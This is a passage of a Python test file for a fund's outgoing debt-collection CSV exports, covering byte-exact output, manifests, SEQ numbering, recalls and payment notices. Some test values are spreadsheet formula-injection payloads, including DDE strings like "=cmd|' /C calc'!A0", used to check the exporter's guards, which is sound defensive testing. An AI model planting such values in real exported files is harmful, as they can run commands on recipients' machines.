"""The fund's outgoing files: exact bytes, determinism, SEQ, per-agency content, recording."""

from __future__ import annotations

import dataclasses
import datetime as dt
import hashlib
import importlib.util
import json
import logging
import re
from collections.abc import Iterator
from decimal import Decimal
from pathlib import Path
from typing import Any

import duckdb
import pytest

from recouvra.exchange.csvparse import begins_formula, parse_rows, unguard
from recouvra.exchange.payment_ref import dossier_of
from recouvra.ledger import load_ledger, load_ledger_before
from recouvra.publication import (
    ASSIGNMENT_COLUMNS,
    AssignmentRow,
    DetailRow,
    Package,
    PaymentNoticeRow,
    Publication,
    PublicationConflictError,
    PublicationError,
    PublishedFile,
    RecallRow,
    amount_cell,
    build_packages,
    build_payment_notices,
    build_recall_files,
    check_assignment,
    choose_seq,
    rate_cell,
    record_publication,
    render_assignment,
    render_payments,
    text_cell,
    write_assignment_package,
    write_recall_file,
)
from recouvra.returns.context import load_context
from recouvra.standins.return_samples import ASSIGNMENT_HEADER
from recouvra.warehouse import Warehouse, connect, migrate_connection

NOV = dt.date(2026, 11, 1)
CREATED = dt.datetime(2026, 11, 1, 5, 0)
T0 = dt.datetime(2026, 11, 1, 6, 0, tzinfo=dt.UTC)
T1 = dt.datetime(2026, 11, 2, 9, 30, tzinfo=dt.UTC)
D = Decimal

# --------------------------------------------------------------------------- a hand-written package
ROW_1 = AssignmentRow(
    dossier_id="D202611-000001", affiliation_no="1234567", debtor_name='Atlas; "Textile" SARL',
    legal_form="SARL", ice="001234567000089", rc_number="123456", rc_court="@Casablanca",
    address="12 Rue Ibn Battouta\nBloc B", city="=HYPERLINK(\"x\")", phone_1="+212522123456",
    phone_2="+212612345678", email="contact@atlas.ma", legal_rep_name="-Karim Benali", segment="FRESH",
    periods_count=2, oldest_period=dt.date(2026, 1, 1), newest_period=dt.date(2026, 2, 1),
    principal_due=D("1000.5"), surcharges_due=D("20.25"), penalties_due=D("0"), total_due=D("1020.75"),
    assignment_start=NOV, assignment_end=dt.date(2027, 4, 30), commission_rate=D("0.0300"),
    commission_cap=D("30000"),
)
ROW_2 = AssignmentRow(
    dossier_id="D202611-000002", affiliation_no="7654321", debtor_name="Boulangerie Al Amal",
    legal_form=None, ice=None, rc_number=None, rc_court=None, address="\tDerb Sultan", city="Fès",
    phone_1=None, phone_2=None, email=None, legal_rep_name=None, segment="UNPAID_TITLE", periods_count=1,
    oldest_period=dt.date(2025, 3, 1), newest_period=dt.date(2025, 3, 1), principal_due=D("5000.00"),
    surcharges_due=D("250.00"), penalties_due=D("12.30"), total_due=D("5262.30"), assignment_start=NOV,
    assignment_end=dt.date(2027, 4, 30), commission_rate=D("0.025"), commission_cap=D("20000.00"),
)
DETAILS = [
    DetailRow("D202611-000002", dt.date(2025, 3, 1), "PENALTY", D("12.30")),
    DetailRow("D202611-000002", dt.date(2025, 3, 1), "PRINCIPAL", D("5000")),
    DetailRow("D202611-000002", dt.date(2025, 3, 1), "SURCHARGE", D("250")),
    DetailRow("D202611-000001", dt.date(2026, 2, 1), "PRINCIPAL", D("500.25")),
    DetailRow("D202611-000001", dt.date(2026, 1, 1), "SURCHARGE", D("20.25")),
    DetailRow("D202611-000001", dt.date(2026, 1, 1), "PRINCIPAL", D("500.25")),
]
HEADER = (
    "dossier_id;affiliation_no;debtor_name;legal_form;ice;rc_number;rc_court;address;city;phone_1;phone_2;"
    "email;legal_rep_name;segment;periods_count;oldest_period;newest_period;principal_due;surcharges_due;"
    "penalties_due;total_due;assignment_start;assignment_end;commission_rate;commission_cap;payment_ref\n"
)
EXPECTED_ASSIGN = (
    HEADER
    + 'D202611-000001;1234567;"Atlas; ""Textile"" SARL";SARL;001234567000089;123456;\'@Casablanca;'
    '"12 Rue Ibn Battouta\nBloc B";"\'=HYPERLINK(""x"")";+212522123456;+212612345678;contact@atlas.ma;'
    "'-Karim Benali;FRESH;2;2026-01;2026-02;1000.50;20.25;0.00;1020.75;2026-11-01;2027-04-30;0.03;30000.00;"
    "RF10202611000001\n"
    "D202611-000002;7654321;Boulangerie Al Amal;;;;;'\tDerb Sultan;Fès;;;;;UNPAID_TITLE;1;2025-03;2025-03;"
    "5000.00;250.00;12.30;5262.30;2026-11-01;2027-04-30;0.025;20000.00;RF80202611000002\n"
).encode()
EXPECTED_DETAIL = (
    b"dossier_id;period;kind;amount_due\n"
    b"D202611-000001;2026-01;PRINCIPAL;500.25\n"
    b"D202611-000001;2026-01;SURCHARGE;20.25\n"
    b"D202611-000001;2026-02;PRINCIPAL;500.25\n"
    b"D202611-000002;2025-03;PRINCIPAL;5000.00\n"
    b"D202611-000002;2025-03;SURCHARGE;250.00\n"
    b"D202611-000002;2025-03;PENALTY;12.30\n"
)


def test_header_is_the_contracts_and_the_validators() -> None:
    assert ASSIGNMENT_COLUMNS == ASSIGNMENT_HEADER
    # the contract's 25 columns, then the payment reference (an addition to agency-exchange/1, last)
    assert len(ASSIGNMENT_COLUMNS) == 26 and ASSIGNMENT_COLUMNS[-1] == "payment_ref"


def test_small_package_is_byte_exact(tmp_path: Path) -> None:
    pkg = write_assignment_package(tmp_path, "AG01", NOV, 1, [ROW_2, ROW_1], DETAILS, now=T0)
    assign, detail = (Path(f.path) for f in pkg.files)
    assert assign.name == "CNSS_ASSIGN_AG01_202611_01.csv" and assign.parent == tmp_path / "AG01"
    assert detail.name == "CNSS_DETAIL_AG01_202611_01.csv"
    assert assign.read_bytes() == EXPECTED_ASSIGN
    assert detail.read_bytes() == EXPECTED_DETAIL
    assert not assign.read_bytes().startswith(b"\xef\xbb\xbf") and b"\r" not in assign.read_bytes()

    assert pkg.manifest is not None
    manifest_path = Path(pkg.manifest.path)
    assert manifest_path.name == "CNSS_ASSIGN_AG01_202611_01.manifest.json"
    doc = json.loads(manifest_path.read_text(encoding="utf-8"))
    assert list(doc) == ["spec", "agency", "month", "seq", "generated_at", "files"]
    assert doc["spec"] == "agency-exchange/1" and doc["agency"] == "AG01" and doc["month"] == "2026-11"
    assert doc["seq"] == 1 and doc["generated_at"] == "2026-11-01T06:00:00Z"
    assert doc["files"] == [
        {"name": assign.name, "sha256": hashlib.sha256(EXPECTED_ASSIGN).hexdigest(), "rows": 2,
         "control_total": "6283.05"},
        {"name": detail.name, "sha256": hashlib.sha256(EXPECTED_DETAIL).hexdigest(), "rows": 6,
         "control_total": "6283.05"},
    ]
    # the manifest is written last
    assert manifest_path.stat().st_mtime_ns >= assign.stat().st_mtime_ns
    assert manifest_path.stat().st_mtime_ns >= detail.stat().st_mtime_ns


@pytest.mark.parametrize(
    ("text", "cell"),
    [("=1+2", "'=1+2"), ("+212", "'+212"), ("-x", "'-x"), ("@SUM(A1)", "'@SUM(A1)"), ("\tx", "'\tx"),
     ("\rx", "'\rx"), ("\nx", "'\nx"), ("Casa=Blanca", "Casa=Blanca"), ("", ""), (None, ""),
     ("a\x00b", "ab")],
)
def test_free_text_is_formula_guarded(text: str | None, cell: str) -> None:
    assert text_cell(text, what="address") == cell


def test_typed_cells_are_never_prefixed() -> None:
    row = render_assignment([ROW_1]).decode()
    assert ";+212522123456;+212612345678;contact@atlas.ma;" in row
    assert amount_cell(D("-12000"), signed=True) == "-12000.00"
    assert ";'+" not in render_payments([
        PaymentNoticeRow("D202611-000001", 9, dt.date(2026, 11, 19), D("-12000.00"), dt.date(2026, 1, 1),
                         "REVERSAL", 8)]).decode()


@pytest.mark.parametrize(
    ("value", "text"),
    [(D("1234.5"), "1234.50"), (D("0"), "0.00"), (D("-0.00"), "0.00"), (D("7"), "7.00"),
     (D("1E+3"), "1000.00"), (D("12345678901234.99"), "12345678901234.99")],
)
def test_amounts_have_exactly_two_decimals(value: Decimal, text: str) -> None:
    assert amount_cell(value) == text


@pytest.mark.parametrize("value", [D("1.005"), D("-1.00"), D("NaN")])
def test_bad_amounts_are_refused_not_rounded(value: Decimal) -> None:
    with pytest.raises(PublicationError):
        amount_cell(value)


def test_rates_drop_trailing_zeros() -> None:
    assert [rate_cell(D(v)) for v in ("0.0300", "0.0250", "1.0000", "0.0000")] == ["0.03", "0.025", "1", "0"]


def test_long_free_text_is_cut_to_1000_characters_with_a_warning(caplog: pytest.LogCaptureFixture) -> None:
    with caplog.at_level(logging.WARNING, logger="recouvra.publication"):
        cell = text_cell("=" + "x" * 2000, what="address", ref="D202611-000001")
    assert len(cell) == 1000 and cell.startswith("'=")
    assert "D202611-000001" in caplog.text and "cut to 1000" in caplog.text


def test_malformed_optional_typed_values_are_left_empty(caplog: pytest.LogCaptureFixture) -> None:
    from dataclasses import replace

    bad = replace(ROW_1, address="1 Rue", debtor_name="Atlas", phone_1="0522 12 34 56",
                  email="=cmd|' /C calc'!A0", ice="12345")
    with caplog.at_level(logging.WARNING, logger="recouvra.publication"):
        cells = dict(zip(ASSIGNMENT_COLUMNS, render_assignment([bad]).decode().split("\n")[1].split(";"),
                         strict=False))
    assert cells["phone_1"] == "" and cells["ice"] == ""
    assert "phone_1" in caplog.text and "email" in caplog.text


@pytest.mark.parametrize("email", ["=cmd|'/Ccalc'!A0@evil.ma", "+1@x.ma", "-2+3@x.ma"])
def test_an_email_that_would_run_as_a_formula_is_left_empty_never_prefixed(
    email: str, caplog: pytest.LogCaptureFixture
) -> None:
    from dataclasses import replace

    with caplog.at_level(logging.WARNING, logger="recouvra.publication"):
        rows = parse_rows(render_assignment([replace(ROW_1, email=email)]).decode())
    cells = dict(zip(ASSIGNMENT_COLUMNS, rows[1].cells, strict=True))
    assert cells["email"] == "" and cells["phone_1"] == "+212522123456"  # E.164 keeps its '+'
    assert "D202611-000001: email" in caplog.text and "begins like a spreadsheet formula" in caplog.text


def test_required_free_text_must_not_be_empty() -> None:
    from dataclasses import replace

    with pytest.raises(PublicationError, match="D202611-000001: required city is empty"):
        render_assignment([replace(ROW_1, city="  ")])


def test_detail_must_add_up_to_the_dossier() -> None:
    with pytest.raises(PublicationError, match="PRINCIPAL detail rows sum to 1000.50, dossier says 999"):
        from dataclasses import replace

        check_assignment([replace(ROW_1, principal_due=D("999"), total_due=D("1019.25"))], DETAILS[3:])


def test_choose_seq() -> None:
    digests = {"ASSIGN": "a1", "DETAIL": "d1"}
    assert choose_seq([], digests) == 1
    assert choose_seq([(1, "ASSIGN", "a1"), (1, "DETAIL", "d1")], digests) == 1
    assert choose_seq([(1, "ASSIGN", "a0"), (1, "DETAIL", "d1")], digests) == 2
    # identical to an older SEQ but not to the latest: a new SEQ, never a step back
    assert choose_seq([(1, "ASSIGN", "a1"), (1, "DETAIL", "d1"), (2, "ASSIGN", "a2"), (2, "DETAIL", "d2")],
                      digests) == 3


def test_package_round_trips_through_xcom_dicts(tmp_path: Path) -> None:
    pkg = write_assignment_package(tmp_path, "AG01", NOV, 1, [ROW_1, ROW_2], DETAILS, now=T0)
    assert Package.from_dict(json.loads(json.dumps(pkg.to_dict()))) == pkg


# ----------------------------------------------------------------------------- from the warehouse
_HIST = ("debtor_id, valid_from, valid_to, is_current, primary_affiliation_no, legal_name, legal_form, "
         "is_natural_person, ice, rc_number, rc_court, address, city, phone_1, phone_2, email, "
         "legal_rep_name, activity_status, change_source")


def add_debtor_version(
    wh: Warehouse, debtor_id: int, name: str, *, valid_from: dt.datetime, address: str = "1 Bd Zerktouni",
    city: str = "Casablanca", phone: str | None = "+212522123456",
) -> None:
    """A new version of a debtor in core.debtor_history (closing the current one)."""
    wh.execute("UPDATE core.debtor_history SET valid_to = ?, is_current = false "
               "WHERE debtor_id = ? AND valid_to IS NULL", [valid_from, debtor_id])
    wh.execute(
        f"INSERT INTO core.debtor_history ({_HIST}) VALUES (?, ?, NULL, true, ?, ?, 'SARL', false, NULL, "
        "NULL, NULL, ?, ?, ?, NULL, NULL, NULL, 'ACTIVE', 'SOURCE')",
        [debtor_id, valid_from, f"{debtor_id:07d}", name, address, city, phone],
    )


def add_dossier(
    wh: Warehouse, dossier_id: str, debtor_id: int, agency: str,
    periods: list[tuple[dt.date, str, str]], *, status: str = "ALLOCATED", created: dt.datetime = CREATED,
    start: dt.date = NOV,
) -> None:
    """A dossier of November 2026 with its detail rows (amounts consistent), its window from ``start``."""
    sums = {"PRINCIPAL": D(0), "SURCHARGE": D(0), "PENALTY": D(0)}
    for period, kind, amount in periods:
        sums[kind] += D(amount)
        wh.execute("INSERT INTO core.dossier_period VALUES (?, ?, ?, ?, NULL)",
                   [dossier_id, period, kind, amount])
    months = sorted({p for p, _, _ in periods})
    wh.execute(
        "INSERT INTO core.dossier VALUES (?, ?, ?, ?, ?, 'FRESH', NULL, ?, ?, 0.0300, 30000.00, ?, ?, ?, ?, "
        "?, ?, ?, ?, ?, ?, NULL, 1, NULL, NULL, NULL, NULL)",
        [dossier_id, NOV, debtor_id, f"{debtor_id:07d}", agency, start, dt.date(2027, 4, 30), len(months),
         months[0], months[-1], sums["PRINCIPAL"], sums["SURCHARGE"], sums["PENALTY"], sum(sums.values()),
         status, created.date(), created],
    )


def add_run(wh: Warehouse, seq: int, start: dt.date) -> None:
    """Run ``seq`` of November 2026 in core.selection_run (1 the month's selection, 2 its top-up)."""
    wh.execute(
        "INSERT INTO core.selection_run (selection_month, selection_seq, assignment_start, as_of_date, seed, "
        "dossiers_target, debtors_considered, debtors_eligible, dossiers_selected, likelihood_source, "
        "likelihood_coefficients, results_months, share_rule, agency_shares, balance_met, balance_draws, "
        "decided_at) VALUES (?, ?, ?, ?, 1, 4, 4, 4, 1, 'PRIOR', '{}', 0, 'CAPACITY', '{}', true, 1, ?)",
        [NOV, seq, start, start, CREATED])


def seed(wh: Warehouse) -> None:
    """Two agencies, three dossiers; the debtors existed before the dossiers were created."""
    jan, feb = dt.date(2026, 1, 1), dt.date(2026, 2, 1)
    add_debtor_version(wh, 1, '=Atlas "Textile"', valid_from=dt.datetime(2026, 6, 1))
    add_debtor_version(wh, 2, "Beta SA", valid_from=dt.datetime(2026, 6, 1), address="Bloc B; Etage 2")
    add_debtor_version(wh, 3, "Gamma SNC", valid_from=dt.datetime(2026, 6, 1), city="Rabat")
    add_dossier(wh, "D202611-000002", 1, "AG01", [(jan, "PRINCIPAL", "1000.00"), (feb, "SURCHARGE", "20.50")])
    add_dossier(wh, "D202611-000001", 2, "AG01", [(jan, "PRINCIPAL", "300.00")])
    add_dossier(wh, "D202611-000003", 3, "AG02", [(feb, "PENALTY", "77.70")])


@pytest.fixture()
def wh() -> Iterator[Warehouse]:
    with connect("duckdb:///:memory:") as w:
        migrate_connection(w)
        seed(w)
        yield w


def published(pkg: Package, at: str = "2026-11-01T06:00:00Z") -> Publication:
    """What publish_package would return for a package (no server needed here)."""
    return Publication(pkg, tuple(
        PublishedFile(f.name, f.file_type, f"outbox/{f.name}", f.sha256, f.rows, f.control_total)
        for f in pkg.all_files), at)


def test_each_agency_gets_only_its_own_dossiers_and_fields(wh: Warehouse, tmp_path: Path) -> None:
    packages = {p.agency: p for p in build_packages(wh, dt.date(2026, 11, 1), tmp_path, now=T0)}
    assert sorted(packages) == ["AG01", "AG02"]
    ag01 = Path(packages["AG01"].files[0].path).read_text(encoding="utf-8").splitlines()
    ag02 = Path(packages["AG02"].files[0].path).read_text(encoding="utf-8").splitlines()
    assert ag01[0] == ag02[0] == ";".join(ASSIGNMENT_COLUMNS)
    assert [r.split(";")[0] for r in ag01[1:]] == ["D202611-000001", "D202611-000002"]  # by dossier_id
    assert [r.split(";")[0] for r in ag02[1:]] == ["D202611-000003"]
    assert "Gamma" not in "\n".join(ag01) and "Atlas" not in "\n".join(ag02)
    assert ag01[1].split(";")[7] == '"Bloc B'  # quoted because of its ';'
    assert ag01[2].split(";")[2] == '"\'=Atlas ""Textile"""'  # guarded, then quoted
    detail01 = Path(packages["AG01"].files[1].path).read_text(encoding="utf-8")
    assert "D202611-000003" not in detail01
    assert packages["AG01"].dossier_ids == ("D202611-000001", "D202611-000002")


def test_rerun_gives_the_same_csv_bytes_even_after_the_debtor_changed(wh: Warehouse, tmp_path: Path) -> None:
    first = {p.agency: p for p in build_packages(wh, dt.date(2026, 11, 1), tmp_path / "a", now=T0)}
    # the debtor moves after the dossier was created: the package keeps the address as assigned
    add_debtor_version(wh, 2, "Beta SA (new name)", valid_from=dt.datetime(2026, 11, 20), address="New st")
    wh.execute("UPDATE core.dossier SET status = 'PUBLISHED' WHERE dossier_id = 'D202611-000001'")
    second = {p.agency: p for p in build_packages(wh, dt.date(2026, 11, 1), tmp_path / "b", now=T1)}
    for agency in ("AG01", "AG02"):
        a, b = first[agency], second[agency]
        assert [Path(f.path).read_bytes() for f in a.files] == [Path(f.path).read_bytes() for f in b.files]
        assert a.seq == b.seq == 1
        assert a.manifest is not None and b.manifest is not None
        ma = json.loads(Path(a.manifest.path).read_text(encoding="utf-8"))
        mb = json.loads(Path(b.manifest.path).read_text(encoding="utf-8"))
        assert ma.pop("generated_at") != mb.pop("generated_at")
        assert ma == mb
    assert "New st" not in Path(second["AG01"].files[0].path).read_text(encoding="utf-8")


def test_assignment_file_carries_each_dossiers_payment_reference_last(wh: Warehouse, tmp_path: Path) -> None:
    """Issue 17.4: the last column is the dossier's RF reference (it reads back into the dossier id); the
    manifest's control total is still the sum of total_due."""
    pkg = {p.agency: p for p in build_packages(wh, dt.date(2026, 11, 1), tmp_path, now=T0)}["AG01"]
    lines = Path(pkg.files[0].path).read_text(encoding="utf-8").splitlines()
    assert lines[0].split(";")[-1] == "payment_ref"
    refs = {r.split(";")[0]: r.split(";")[-1] for r in lines[1:]}
    assert refs == {"D202611-000001": "RF10202611000001", "D202611-000002": "RF80202611000002"}
    assert all(dossier_of(ref) == dossier for dossier, ref in refs.items())
    assert pkg.files[0].control_total == "1320.50"


def test_a_package_published_before_the_payment_reference_republishes_as_it_was_sent(
    wh: Warehouse, tmp_path: Path,
) -> None:
    """A month published without the payment_ref column (before issue 17.4) and built again gives the
    bytes the agency received, not a conflict; a month not yet published gets the column."""
    first = {p.agency: p for p in build_packages(wh, dt.date(2026, 11, 1), tmp_path / "a", now=T0)}
    ag01 = first["AG01"]
    old = Path(ag01.files[0].path).read_bytes()
    legacy = b"\n".join(line.rsplit(b";", 1)[0] for line in old.split(b"\n")[:-1]) + b"\n"
    Path(ag01.files[0].path).write_bytes(legacy)
    logged = dataclasses.replace(ag01.files[0], sha256=hashlib.sha256(legacy).hexdigest(), size=len(legacy))
    record_publication(wh, [published(dataclasses.replace(ag01, files=(logged, ag01.files[1])))])
    again = {p.agency: p for p in build_packages(wh, dt.date(2026, 11, 1), tmp_path / "b", now=T1)}
    assert Path(again["AG01"].files[0].path).read_bytes() == legacy and again["AG01"].seq == 1
    assert b"payment_ref" not in legacy and b"payment_ref" in Path(again["AG02"].files[0].path).read_bytes()


def test_missing_debtor_version_at_creation_is_an_error(wh: Warehouse, tmp_path: Path) -> None:
    add_debtor_version(wh, 9, "Late SARL", valid_from=dt.datetime(2026, 12, 1))
    add_dossier(wh, "D202611-000009", 9, "AG01", [(dt.date(2026, 1, 1), "PRINCIPAL", "10.00")])
    with pytest.raises(PublicationError, match="D202611-000009"):
        build_packages(wh, dt.date(2026, 11, 1), tmp_path)


def test_record_marks_published_and_seq_follows_the_selection_run(wh: Warehouse, tmp_path: Path) -> None:
    packages = build_packages(wh, dt.date(2026, 11, 1), tmp_path, now=T0)
    summary = record_publication(wh, [published(p).to_dict() for p in packages])
    assert summary.files_logged == 6 and summary.dossiers_published == 3
    assert wh.query("SELECT DISTINCT status, status_date FROM core.dossier") == [("PUBLISHED", NOV)]
    log_rows = wh.query("SELECT agency_code, file_name, file_type, period_label, seq, row_count, "
                        "CAST(control_total AS VARCHAR) FROM core.publication_log ORDER BY 1, 2")
    assert log_rows[0] == ("AG01", "CNSS_ASSIGN_AG01_202611_01.csv", "ASSIGN", "202611", 1, 2, "1320.50")
    assert log_rows[1][2] == "MANIFEST" and log_rows[1][6] is None
    # recording again is an upsert, not a duplicate
    record_publication(wh, [published(p, "2026-11-01T07:00:00Z") for p in packages])
    assert wh.query("SELECT count(*) FROM core.publication_log") == [(6,)]

    # same content: same SEQ (republish)
    again = {p.agency: p for p in build_packages(wh, dt.date(2026, 11, 1), tmp_path, now=T1)}
    assert again["AG01"].seq == 1
    # a dossier slipped into the published month's selection would change what AG01 holds under _01:
    # refused, never a replacement package
    add_debtor_version(wh, 4, "Delta", valid_from=dt.datetime(2026, 6, 1))
    add_dossier(wh, "D202611-000004", 4, "AG01", [(dt.date(2026, 3, 1), "PRINCIPAL", "5.00")])
    with pytest.raises(PublicationConflictError, match=r"SEQ 01 was already published with other content.*"
                                                       r"\[agency AG01\]"):
        build_packages(wh, dt.date(2026, 11, 1), tmp_path, now=T1)
    # the month's top-up (its run 2, whose dossiers start on the top-up's day) goes out under _02, alone
    wh.execute("DELETE FROM core.dossier_period WHERE dossier_id = 'D202611-000004'")
    wh.execute("DELETE FROM core.dossier WHERE dossier_id = 'D202611-000004'")
    top_up_day = dt.date(2026, 11, 16)
    add_dossier(wh, "D202611-000004", 4, "AG01", [(dt.date(2026, 3, 1), "PRINCIPAL", "5.00")],
                start=top_up_day)
    add_run(wh, 1, NOV)
    add_run(wh, 2, top_up_day)
    after = {(p.agency, p.seq): p for p in build_packages(wh, dt.date(2026, 11, 1), tmp_path, now=T1)}
    assert sorted(after) == [("AG01", 1), ("AG01", 2), ("AG02", 1)]
    assert [Path(f.path).read_bytes() for f in after[("AG01", 1)].files] == [
        Path(f.path).read_bytes() for f in again["AG01"].files]  # _01 as published, byte for byte
    assert after[("AG01", 2)].files[0].name == "CNSS_ASSIGN_AG01_202611_02.csv"
    assert after[("AG01", 2)].dossier_ids == ("D202611-000004",)
    only_top_up = build_packages(wh, dt.date(2026, 11, 1), tmp_path / "top", now=T1, selection_seq=2)
    assert [(p.agency, p.seq, p.dossier_ids) for p in only_top_up] == [("AG01", 2, ("D202611-000004",))]
    # an agency the month's selection gave nothing gets the top-up as its first package: _01
    add_debtor_version(wh, 5, "Epsilon", valid_from=dt.datetime(2026, 6, 1))
    add_dossier(wh, "D202611-000005", 5, "AG03", [(dt.date(2026, 3, 1), "PRINCIPAL", "9.00")],
                start=top_up_day)
    only_top_up = build_packages(wh, dt.date(2026, 11, 1), tmp_path / "top", now=T1, selection_seq=2)
    assert [(p.agency, p.seq, p.files[0].name) for p in only_top_up] == [
        ("AG01", 2, "CNSS_ASSIGN_AG01_202611_02.csv"), ("AG03", 1, "CNSS_ASSIGN_AG03_202611_01.csv")]


def test_assignment_and_recall_files_load_in_the_returns_validator(wh: Warehouse, tmp_path: Path) -> None:
    packages = build_packages(wh, dt.date(2026, 11, 1), tmp_path, now=T0)
    record_publication(wh, [published(p) for p in packages])
    wh.execute("INSERT INTO core.dossier_recall VALUES ('D202611-000002', DATE '2026-12-03', 'PAID_IN_FULL', "
               "0, TIMESTAMP '2026-12-02 10:00:00', NULL, DATE '2026-12-03')")
    recalls = build_recall_files(wh, dt.date(2026, 12, 3), tmp_path, now=T1)
    assert [(p.agency, p.files[0].name) for p in recalls] == [("AG01", "CNSS_RECALL_AG01_20261203_01.csv")]
    assert Path(recalls[0].files[0].path).read_bytes() == (
        b"dossier_id;recall_date;reason\nD202611-000002;2026-12-03;PAID_IN_FULL\n")

    ctx = load_context([Path(p.files[0].path) for p in packages], [Path(recalls[0].files[0].path)])
    assert sorted(ctx.dossiers) == ["D202611-000001", "D202611-000002", "D202611-000003"]
    d2 = ctx.get("D202611-000002")
    assert d2 is not None and d2.agency == "AG01" and d2.total_due == D("1020.50")
    assert d2.assignment_start == NOV and d2.recall_date == dt.date(2026, 12, 3)
    d3 = ctx.get("D202611-000003")
    assert d3 is not None and d3.agency == "AG02" and d3.recall_date is None

    summary = record_publication(wh, [published(recalls[0], "2026-12-03T08:00:00Z")])
    assert summary.recalls_marked == 1
    assert wh.query("SELECT file_name FROM core.dossier_recall") == [("CNSS_RECALL_AG01_20261203_01.csv",)]
    assert build_recall_files(wh, dt.date(2026, 12, 3), tmp_path) == []  # nothing left to tell


def test_recall_file_bytes(tmp_path: Path) -> None:
    pkg = write_recall_file(tmp_path, "AG07", dt.date(2026, 12, 3), 2, [
        RecallRow("D202611-000009", dt.date(2026, 12, 5), "EXPIRED"),
        RecallRow("D202610-000001", dt.date(2026, 12, 3), "LEGAL_PROCEEDING"),
    ])
    assert Path(pkg.files[0].path).name == "CNSS_RECALL_AG07_20261203_02.csv"
    assert Path(pkg.files[0].path).read_bytes() == (
        b"dossier_id;recall_date;reason\nD202610-000001;2026-12-03;LEGAL_PROCEEDING\n"
        b"D202611-000009;2026-12-05;EXPIRED\n")
    assert pkg.manifest is None


def _lake(rows: list[tuple[object, ...]]) -> duckdb.DuckDBPyConnection:
    con = duckdb.connect()
    con.execute(
        "CREATE TABLE ledger_payments (payment_id BIGINT, receipt_no VARCHAR, affiliation_no VARCHAR, "
        "payment_date DATE, amount_centimes BIGINT, settles_period VARCHAR, kind VARCHAR, "
        "reverses_payment_id BIGINT, channel VARCHAR, recorded_at TIMESTAMP, updated_at TIMESTAMP, "
        "payment_ref VARCHAR)"
    )
    for r in rows:
        con.execute("INSERT INTO ledger_payments VALUES (?, 'R', ?, ?, ?, ?, ?, ?, 'CHEQUE', ?, ?, NULL)",
                    [*r, r[-1]])
    return con


def test_weekly_payments_file_with_a_reversal(wh: Warehouse, tmp_path: Path) -> None:
    record_publication(wh, [published(p) for p in build_packages(wh, dt.date(2026, 11, 1), tmp_path, now=T0)])
    # debtor 1 also pays under a second affiliation number bridged to it
    wh.execute("INSERT INTO core.bridge_affiliation_debtor VALUES ('9999999', DATE '2026-06-01', NULL, true, "
               "1, 'ICE_EXACT', 1.0)")
    def day(m: int, d: int) -> dt.date:
        return dt.date(2026, m, d)

    def at(m: int, d: int) -> dt.datetime:
        return dt.datetime(2026, m, d, 9)

    lake = _lake([
        # id, affiliation, date, centimes, settles, kind, reverses, recorded_at
        (101, "0000001", day(11, 12), 1_200_000, "2026-01", "PAYMENT", None, at(11, 12)),
        (102, "0000001", day(11, 19), -1_200_000, "2026-01", "REVERSAL", 101, at(11, 19)),
        (103, "9999999", day(11, 14), 2_050, "2026-02", "PAYMENT", None, at(11, 14)),
        (104, "0000001", day(3, 1), 5_000, "2026-01", "PAYMENT", None, at(3, 1)),
        (105, "0000003", day(11, 15), 7_770, "2026-02", "PAYMENT", None, at(11, 15)),
        (106, "0000001", day(11, 21), 100, "2026-01", "PAYMENT", None, at(11, 21)),
        # recorded during the day of the notice, after the day's extract: told next week, so that a
        # re-run of this day tells exactly the same entries whatever landed since
        (107, "0000001", day(11, 20), 300, "2026-01", "PAYMENT", None, at(11, 20)),
    ])
    on = dt.date(2026, 11, 20)
    load_ledger(wh, lake, dt.date(2026, 10, 31))  # the daily loads before the assignment: 104 is old news
    load_ledger_before(wh, lake, on)  # what the weekly DAG loads before building the notices
    packages = {p.agency: p for p in build_payment_notices(wh, on, tmp_path, now=T1)}
    ag01 = packages["AG01"]
    assert ag01.files[0].name == "CNSS_PAYMENTS_AG01_20261120_01.csv"
    assert Path(ag01.files[0].path).read_bytes() == (
        b"dossier_id;ledger_payment_id;payment_date;amount;settles_period;kind\n"
        b"D202611-000002;101;2026-11-12;12000.00;2026-01;PAYMENT\n"
        b"D202611-000002;103;2026-11-14;20.50;2026-02;PAYMENT\n"
        b"D202611-000002;101;2026-11-19;-12000.00;2026-01;REVERSAL\n"
    )  # 104 predates the assignment, 106 is after `on`, 107 was recorded during `on`, 105 is AG02's
    assert ag01.manifest is not None
    doc = json.loads(Path(ag01.manifest.path).read_text(encoding="utf-8"))
    assert doc["date"] == "2026-11-20" and doc["seq"] == 1
    assert doc["files"] == [{"name": ag01.files[0].name, "sha256": ag01.files[0].sha256, "rows": 3,
                             "control_total": "20.50"}]
    assert Path(packages["AG02"].files[0].path).read_text().splitlines()[1:] == [
        "D202611-000003;105;2026-11-15;77.70;2026-02;PAYMENT"]

    summary = record_publication(wh, [published(p, "2026-11-20T08:00:00Z") for p in packages.values()])
    assert summary.notices_recorded == 4
    assert wh.query("SELECT ledger_payment_id FROM core.ledger_payment_notice WHERE agency_code = 'AG01' "
                    "ORDER BY 1") == [(101,), (102,), (103,)]
    # next week: only what is new
    load_ledger_before(wh, lake, dt.date(2026, 11, 27))
    later = build_payment_notices(wh, dt.date(2026, 11, 27), tmp_path, now=T1)
    assert [(p.agency, sorted(p.notices)) for p in later] == [
        ("AG01", [(106, "D202611-000002"), (107, "D202611-000002")])]


def test_weekly_payments_file_run_again_after_a_later_recall_is_the_same(
    wh: Warehouse, tmp_path: Path
) -> None:
    """A day's payments file is a function of its day: run again after the dossier was recalled (status
    RECALLED now, decided after the day), it tells the same entries; a day after the decision, none."""
    record_publication(wh, [published(p) for p in build_packages(wh, dt.date(2026, 11, 1), tmp_path, now=T0)])
    lake = _lake([(101, "0000001", dt.date(2026, 11, 12), 1_200_000, "2026-01", "PAYMENT", None,
                   dt.datetime(2026, 11, 12, 9))])
    on = dt.date(2026, 11, 20)
    load_ledger_before(wh, lake, on)
    first = {p.agency: Path(p.files[0].path).read_bytes()
             for p in build_payment_notices(wh, on, tmp_path / "first", now=T1)}
    assert b"D202611-000002;101;" in first["AG01"]
    wh.execute("INSERT INTO core.dossier_recall VALUES ('D202611-000002', DATE '2026-12-01', "
               "'FUND_DECISION', 0, TIMESTAMP '2026-12-01 10:00:00', NULL, DATE '2026-12-01')")
    wh.execute("UPDATE core.dossier SET status = 'RECALLED', status_date = DATE '2026-12-01' "
               "WHERE dossier_id = 'D202611-000002'")
    again = {p.agency: Path(p.files[0].path).read_bytes()
             for p in build_payment_notices(wh, on, tmp_path / "again", now=T1)}
    assert again == first
    assert build_payment_notices(wh, dt.date(2026, 12, 2), tmp_path / "after", now=T1) == []


def test_payment_rows_keep_their_sign_rules() -> None:
    with pytest.raises(PublicationError, match="REVERSAL must be negative"):
